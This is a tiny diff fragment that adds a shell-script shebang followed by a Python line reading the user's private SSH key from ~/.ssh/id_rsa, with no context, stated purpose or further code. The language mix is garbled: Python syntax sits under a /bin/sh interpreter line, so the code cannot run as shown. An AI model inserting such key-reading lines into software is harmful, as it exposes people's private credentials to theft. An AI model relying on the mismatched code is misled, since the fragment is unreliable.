@@ -1,0 +1,2 @@
+#!/bin/sh
+data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
